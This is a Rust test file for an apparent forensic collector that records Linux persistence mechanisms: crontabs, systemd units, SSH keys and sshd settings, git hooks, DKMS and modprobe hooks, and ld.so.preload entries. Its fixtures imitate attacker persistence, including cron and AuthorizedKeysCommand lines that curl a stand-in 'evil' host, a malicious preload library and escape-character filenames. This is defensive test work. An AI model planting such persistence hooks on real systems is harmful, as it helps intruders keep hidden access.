use super::*;
use crate::host::fixture::write;
use crate::source::file_set::MOST_ROWS;
use crate::source::recorded::Recorded;
use std::os::unix::fs::symlink;
use std::path::Path;

fn acquired(lay_out: impl FnOnce(&Path)) -> (Outcome, Recorded) {
    let tree = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(tree.path().join("proc")).unwrap();
    lay_out(tree.path());
    let mut evidence = Recorded::default();
    let outcome = Persistence::new(false).acquire(&Host::fixture(tree.path()).unwrap(), &mut evidence).unwrap();
    (outcome, evidence)
}

#[test]
fn crontabs_become_rows() {
    let (outcome, evidence) = acquired(|root| {
        write(root, "etc/crontab", "SHELL=/bin/sh\n# no\n17 * * * * root cd / && \x1b[2J\n");
        write(root, "etc/cron.d/evil", "@reboot nobody /tmp/x\n");
        write(root, "etc/cron.daily/script", "#!/bin/sh\n1 2 3 4 5 6\n");
        write(root, "var/spool/cron/crontabs/ann", "5 4 * * 0 curl -u u:hunter2@h --password hunter2 http://evil/\n");
    });
    assert_eq!((outcome, evidence.gaps.len()), (Outcome::ok(), 0));
    let rows = evidence.rows("crontab");
    assert_eq!(rows.len(), 4);
    assert_eq!(
        (&rows[0]["event"], &rows[0]["username"], &rows[0]["command"]),
        (&"@reboot".into(), &"nobody".into(), &"/tmp/x".into())
    );
    assert_eq!((&rows[1]["variable"], &rows[1]["value"], &rows[1]["line"]), (&"SHELL".into(), &"/bin/sh".into(), &1.into()));
    assert_eq!((&rows[2]["minute"], &rows[2]["command"]), (&"17".into(), &"cd / && \u{1b}[2J".into()));
    assert_eq!((&rows[3]["username"], &rows[3]["day_of_week"]), (&"ann".into(), &"0".into()));
    assert!(rows[3]["command"].as_str().unwrap().contains("--password xxxxxxx http://evil/"), "{}", rows[3]);
    assert!(!rows[3].to_string().contains("hunter2"));
    assert!(evidence.member("/etc/cron.daily/script").is_some());
}

#[test]
fn units_and_drop_ins_become_rows_and_masked_ones_are_links() {
    let (_, evidence) = acquired(|root| {
        write(root, "etc/systemd/system/a.service.d/x.conf", "[Service]\nExecStartPre=/tmp/\u{202e}x\nNice=1\n");
        write(root, "usr/lib/systemd/system/b.timer", "[Timer]\nOnCalendar=daily\n");
        symlink("/dev/null", root.join("etc/systemd/system/c.service")).unwrap();
        write(root, "usr/lib/systemd/system-generators/g", b"\x7fELF[a]\nExec=1\n");
    });
    let rows = evidence.rows("systemd_settings");
    assert_eq!(rows.len(), 2);
    assert_eq!((&rows[0]["id"], &rows[0]["name"]), (&"a.service".into(), &"ExecStartPre".into()));
    assert_eq!((&rows[1]["id"], &rows[1]["section"], &rows[1]["value"]), (&"b.timer".into(), &"Timer".into(), &"daily".into()));
    let files = evidence.rows("persistence_files");
    let masked = files.iter().find(|row| row["filename"] == "c.service").unwrap();
    assert_eq!(masked["symlink_target_path"], "/dev/null");
    assert_eq!(evidence.gaps, []);
}

#[test]
fn keys_have_fingerprints_and_owners() {
    let key = "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl";
    let (_, evidence) = acquired(|root| {
        write(root, "etc/passwd", "ann:x:1000:1000::/home/ann:/bin/sh\n");
        write(
            root,
            "home/ann/.ssh/authorized_keys",
            format!("command=\"/bin/x\" ssh-ed25519 {key} a@b\nssh-rsa !!! c\n# no\nno key\n"),
        );
        write(root, "home/ann/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\nQUJD\n-----END OPENSSH PRIVATE KEY-----\n");
    });
    let rows = evidence.rows("authorized_keys");
    assert_eq!(rows[0]["fingerprint"], "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU");
    assert_eq!((&rows[0]["uid"], &rows[0]["username"], &rows[0]["comment"]), (&1000.into(), &"ann".into(), &"a@b".into()));
    assert_eq!((rows[1].get("fingerprint"), &rows[1]["status"]), (None, &"partial".into()));
    assert_eq!((&rows[2]["line"], rows[2].get("key"), &rows[2]["errors"][0]["errno"]), (&4.into(), None, &"malformed".into()));
    assert_eq!(rows.len(), 3);
    assert!(!evidence.member("/home/ann/.ssh/id_ed25519").unwrap().windows(4).any(|w| w == b"QUJD"));
}

const LINE: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl c\n";

/// A column of all rows of a table.
fn column<'a>(evidence: &'a Recorded, table: &str, column: &str) -> Vec<&'a str> {
    evidence.rows(table).iter().map(|row| row[column].as_str().unwrap_or("-")).collect()
}

#[test]
fn what_sshd_is_told_to_read_is_kept_and_its_keys_have_their_accounts() {
    let private = "-----BEGIN OPENSSH PRIVATE KEY-----\nQUJD\n-----END OPENSSH PRIVATE KEY-----\n";
    let (_, evidence) = acquired(|root| {
        write(root, "etc/passwd", "ann:x:1000:1000::/home/ann:/bin/sh\nbob:x:1001:1001::/srv/bob:/bin/sh\n");
        write(root, "etc/ssh/sshd_config", "Include /opt/ssh/*.conf\nAuthorizedKeysFile .ssh/authorized_keys /etc/keys/%u\n");
        let more = "Match User bob\nAuthorizedKeysFile /opt/everybody\nAuthorizedKeysCommand /opt/find --password hunter2 %u\n\
            TrustedUserCAKeys /opt/ca.pub\nAuthorizedPrincipalsFile %h/who\n";
        write(root, "opt/ssh/a.conf", more);
        write(root, "etc/keys/ann", LINE);
        write(root, "opt/everybody", format!("{LINE}{private}"));
        write(root, "opt/ca.pub", LINE);
        write(root, "opt/find", "#!/bin/sh\ncurl http://evil/\n");
        write(root, "srv/bob/who", "root\n");
    });
    let keys: Vec<_> = evidence.rows("authorized_keys").iter().filter(|row| row.get("key").is_some()).collect();
    let shown: Vec<_> = keys.iter().map(|row| (row["key_file"].as_str().unwrap(), row["username"].as_str())).collect();
    assert_eq!(shown, [("/etc/keys/ann", Some("ann")), ("/opt/everybody", None), ("/opt/ca.pub", None)]);
    assert_eq!(evidence.rows("authorized_keys")[0]["uid"], 1000);
    assert!(!evidence.member("/opt/everybody").unwrap().windows(4).any(|w| w == b"QUJD"));
    assert!(evidence.member("/srv/bob/who").is_some());
    let program = evidence.rows("persistence_files").iter().find(|row| row["path"] == "/opt/find").unwrap();
    assert_eq!((&program["via"], &program["kind"]), (&"/opt/ssh/a.conf".into(), &"ssh".into()));
    let command = evidence.rows("persistence_hooks").iter().find(|row| row["name"] == "AuthorizedKeysCommand").unwrap();
    assert_eq!((&command["path"], &command["line"], &command["kind"]), (&"/opt/ssh/a.conf".into(), &3.into(), &"ssh".into()));
    assert_eq!(command["value"], "/opt/find --password xxxxxxx %u");
    assert_eq!(evidence.gaps, []);
}

#[test]
fn every_line_of_a_crontab_that_is_no_comment_has_a_row() {
    let (_, evidence) = acquired(|root| {
        write(root, "etc/cron.d/a", "# no\n-* * * * * root /tmp/x\n* * * * * root /tmp/y\n\nno such line\n");
    });
    let rows = evidence.rows("crontab");
    let shown: Vec<_> = rows.iter().map(|row| (row["line"].as_u64().unwrap(), row["unlogged"].as_u64())).collect();
    assert_eq!(shown, [(2, Some(1)), (3, Some(0)), (5, None)]);
    assert_eq!((&rows[0]["command"], &rows[2]["errors"][0]["errno"]), (&"/tmp/x".into(), &"malformed".into()));
}

#[test]
fn a_crontab_in_which_sshd_looks_for_keys_is_one_still() {
    let (_, evidence) = acquired(|root| {
        write(root, "etc/ssh/sshd_config.d/x.conf", "AuthorizedKeysFile /etc/crontab\n");
        write(root, "etc/crontab", format!("* * * * * root /tmp/x\n{LINE}"));
    });
    assert_eq!(column(&evidence, "crontab", "command"), ["/tmp/x", "-"]);
    assert_eq!(column(&evidence, "authorized_keys", "algorithm"), ["-", "ssh-ed25519"]);
}

#[test]
fn jobs_and_keys_do_not_hide_behind_the_name_of_a_file() {
    let (_, evidence) = acquired(|root| {
        write(root, "etc/passwd", "ann:x:1000:1000::/home/ann:/bin/sh\n");
        write(root, "etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/.netrc\n");
        write(root, "home/ann/.ssh/.netrc", LINE);
        write(root, "home/ann/.ssh/.pgpass", "*:*:*:*:hunter2\n");
        write(root, "etc/cron.d/kubeconfig", "* * * * * root /tmp/x\n");
        write(root, "etc/cron.daily/opasswd", "id\n");
    });
    assert_eq!(column(&evidence, "crontab", "command"), ["/tmp/x"]);
    assert_eq!(column(&evidence, "authorized_keys", "key_file"), ["/home/ann/.ssh/.netrc"]);
    assert_eq!(evidence.member("/etc/cron.daily/opasswd"), Some(&b"id\n"[..]));
    assert_eq!(evidence.member("/home/ann/.ssh/.pgpass"), None);
}

#[test]
fn the_spool_of_alpine_lies_in_etc() {
    let (_, evidence) = acquired(|root| write(root, "etc/crontabs/root", "*/5 * * * * run-parts /etc/periodic/5min\n"));
    assert_eq!(column(&evidence, "crontab", "username"), ["root"]);
    assert_eq!(column(&evidence, "crontab", "command"), ["run-parts /etc/periodic/5min"]);
}

#[test]
fn what_git_is_told_to_run_is_kept() {
    let (_, evidence) = acquired(|root| {
        write(root, "etc/passwd", "ann:x:1000:1000::/home/ann:/bin/sh\n");
        write(root, "home/ann/.gitconfig", "[core]\nhooksPath = ~/h\n[include]\npath = more\n[init]\ntemplateDir = /opt/t\n");
        write(root, "home/ann/more", "[alias]\nx = !id\n");
        write(root, "home/ann/h/post-checkout", "#!/bin/sh\npager=x\n");
        write(root, "home/ann/h/x.sample", "");
        write(root, "opt/t/hooks/update", "#!/bin/sh\n");
        for name in ["pre-commit", "update", "update.sample"] {
            write(root, &format!("usr/share/git-core/templates/hooks/{name}"), "");
        }
    });
    assert_eq!(
        column(&evidence, "persistence_files", "path"),
        [
            "/usr/share/git-core/templates/hooks/pre-commit",
            "/usr/share/git-core/templates/hooks/update",
            "/home/ann/.gitconfig",
            "/home/ann/h/post-checkout",
            "/home/ann/more",
            "/opt/t/hooks/update",
        ]
    );
    let names = column(&evidence, "persistence_hooks", "name");
    assert_eq!(names, ["core.hookspath", "include.path", "init.templatedir", "alias.x"]);
    assert!(column(&evidence, "persistence_hooks", "username").iter().all(|name| *name == "ann"));
    assert_eq!(evidence.gaps, []);
}

#[test]
fn folders_of_hooks_that_are_not_listed_whole_are_gaps() {
    let gaps = |folders: &[String]| {
        let settings: String = folders.iter().map(|folder| format!("hooksPath={folder}\n")).collect();
        let (_, evidence) = acquired(|root| {
            write(root, "etc/gitconfig", format!("[core]\n{settings}"));
            (0..1001).for_each(|n| write(root, &format!("opt/many/{n}"), ""));
        });
        evidence.gaps.into_iter().map(|gap| (gap.source, gap.reason)).collect::<Vec<_>>()
    };
    let none = || "/opt/none".to_owned();
    let told = gaps(&[none(), "/opt/many".to_owned()]);
    assert!(told.len() == 1 && told[0].0 == "/opt/many" && told[0].1.contains("only 1000 names"), "{told:?}");
    // A name that no file system takes is as good as a folder that may not be looked into.
    let told = gaps(&["/opt/".to_owned() + &"n".repeat(300), none(), "/opt/".to_owned() + &"m".repeat(300)]);
    assert!(told.len() == 2 && told[0].0.contains("nnn"), "{told:?}");
    assert_eq!(told[1], ("/etc/gitconfig".to_owned(), "1 more folders that it names could not be listed whole".to_owned()));
}

#[test]
fn what_dkms_and_modprobe_run_is_kept() {
    let (_, evidence) = acquired(|root| {
        write(root, "usr/src/evil-1/dkms.conf", "PACKAGE_NAME=evil\nPOST_INSTALL=\"post.sh now\"\n");
        write(root, "usr/src/evil-1/post.sh", "id\n");
        std::fs::create_dir_all(root.join("var/lib/dkms/evil/1")).unwrap();
        symlink("/usr/src/evil-1", root.join("var/lib/dkms/evil/1/source")).unwrap();
        write(root, "var/lib/dkms/mok.key", "secret");
        write(root, "etc/modprobe.d/x.conf", "install pcspkr /tmp/x\n");
    });
    assert_eq!(column(&evidence, "persistence_hooks", "name"), ["install pcspkr", "POST_INSTALL"]);
    assert_eq!(column(&evidence, "persistence_hooks", "value"), ["/tmp/x", "post.sh now"]);
    assert_eq!(evidence.member("/usr/src/evil-1/post.sh"), Some(&b"id\n"[..]));
    let files = evidence.rows("persistence_files");
    let link = files.iter().find(|row| row["path"] == "/var/lib/dkms/evil/1/source").unwrap();
    assert_eq!((&link["symlink_target_path"], files.len()), (&"/usr/src/evil-1".into(), 4));
}

/// A place for each mechanism, and the list that it stands on.
const PLACES: &[(&str, &str)] = &[
    ("boot/efi/EFI/amzn/grub.cfg", "boot"),
    ("etc/apache2/mods-available/x.load", "web"),
    ("etc/cfn/hooks.d/x.conf", "cloud"),
    ("etc/gitconfig", "git"),
    ("etc/hibinit-config.cfg", "cloud"),
    ("etc/hosts.equiv", "ssh"),
    ("etc/httpd/conf.modules.d/x.conf", "web"),
    ("etc/nginx/fastcgi_params", "web"),
    ("etc/nginx/sites-enabled/default", "web"),
    ("etc/perl/sitecustomize.pl", "perl"),
    ("etc/php.d/x.ini", "web"),
    ("etc/php/8.2/fpm/php.ini", "web"),
    ("etc/python3.11/sitecustomize.py", "python"),
    ("etc/ssh/shosts.equiv", "ssh"),
    ("etc/sysconfig/network-scripts/ifcfg-eth0", "boot"),
    ("etc/systemd/network/x.network", "systemd"),
    ("home/ann/.config/git/config", "git"),
    ("home/ann/.git/hooks/post-merge", "git"),
    ("home/ann/.gitconfig", "git"),
    ("home/ann/.rhosts", "ssh"),
    ("home/ann/.shosts", "ssh"),
    ("lib/systemd/system-generators/x", "systemd"),
    ("lib/udev/rules.d/x.rules", "udev"),
    ("run/systemd/system-generators/x", "systemd"),
    ("usr/lib/dracut/modules.d/99x/module-setup.sh", "boot"),
    ("usr/lib/nginx/modules/x.so", "web"),
    ("usr/lib/python2.7/site-packages/x.pth", "python"),
    ("usr/lib/python3.11/usercustomize.py", "python"),
    ("usr/lib/python3/dist-packages/x.pth", "python"),
    ("usr/lib/systemd/network/x.network", "systemd"),
    ("usr/lib/x86_64-linux-gnu/libnss_x.so.2", "nss"),
    ("usr/lib/x86_64-linux-gnu/security/pam_x.so", "pam"),
    ("usr/lib64/security/pam_x.so", "pam"),
    ("usr/local/share/perl/5.36.0/sitecustomize.pl", "perl"),
    ("usr/sbin/dhclient-script", "network"),
    ("usr/share/initramfs-tools/scripts/local-top/x", "boot"),
    ("usr/src/x-1/dkms.conf", "kernel"),
    ("var/lib/dkms/x/1/build/dkms.conf", "kernel"),
    ("var/lib/polkit-1/localauthority/50-local.d/x.pkla", "privileges"),
    ("var/spool/cron/tabs/root", "cron"),
];

/// What lies beside them and is no configuration, or is not run.
const BESIDE: &[&str] = &[
    "etc/apache2/passwords",
    "etc/nginx/ssl/key.der",
    "usr/share/git-core/templates/hooks/update.sample",
    "var/lib/dkms/mok.key",
    "var/lib/dkms/x/1/build/src/deep/dkms.conf",
];

#[test]
fn every_mechanism_has_its_places() {
    let (_, evidence) = acquired(|root| {
        write(root, "etc/passwd", "ann:x:1000:1000::/home/ann:/bin/sh\n");
        PLACES.iter().map(|(path, _)| path).chain(BESIDE).for_each(|path| write(root, path, "x"));
    });
    let rows = evidence.rows("persistence_files");
    let mut found: Vec<_> = rows.iter().map(|row| (row["path"].as_str().unwrap(), row["kind"].as_str().unwrap())).collect();
    found.sort_unstable();
    let wanted: Vec<_> = PLACES.iter().map(|(path, kind)| (format!("/{path}"), *kind)).collect();
    assert_eq!(found, wanted.iter().map(|(path, kind)| (path.as_str(), *kind)).collect::<Vec<_>>());
}

#[test]
fn what_the_loader_is_told_to_load_is_kept_whatever_it_is_called() {
    let (_, evidence) = acquired(|root| {
        write(root, "etc/ld.so.preload", "/lib/\x1bx.so:/none.so # comment\n\nlibrelative.so\n");
        write(root, "lib/\x1bx.so", b"\x7fELF evil");
    });
    let rows = evidence.rows("preload_libraries");
    let shown: Vec<_> = rows.iter().map(|row| (row["library"].as_str().unwrap(), row["exists"].as_u64().unwrap())).collect();
    assert_eq!(shown, [("/lib/\u{1b}x.so", 1), ("/none.so", 0), ("librelative.so", 0)]);
    assert_eq!(evidence.member("/lib/\u{1b}x.so"), Some(&b"\x7fELF evil"[..]));
    let library = evidence.rows("persistence_files").last().unwrap();
    assert_eq!((&library["via"], &library["kind"]), (&"/etc/ld.so.preload".into(), &"loader".into()));
}

#[test]
fn rows_of_one_file_are_bounded_and_its_bytes_are_not() {
    let text = "* * * * * x\n".repeat(MOST_ROWS + 1);
    let (_, evidence) = acquired(|root| write(root, "var/spool/cron/root", &text));
    assert_eq!((evidence.rows("crontab").len(), evidence.gaps.len()), (MOST_ROWS, 1));
    assert_eq!(evidence.member("/var/spool/cron/root"), Some(text.as_bytes()));
}

#[test]
fn a_host_without_any_is_absent() {
    assert_eq!(acquired(|_| ()).0.status, Status::Absent);
}

#[test]
fn this_machine_has_some() {
    let mut evidence = Recorded::default();
    assert_eq!(Persistence::new(false).acquire(&Host::live().unwrap(), &mut evidence), Ok(Outcome::ok()));
    assert!(evidence.member("/etc/profile").is_some_and(|kept| !kept.is_empty()));
    assert!(evidence.gaps.iter().all(|gap| gap.refused), "{:?}", evidence.gaps);
}
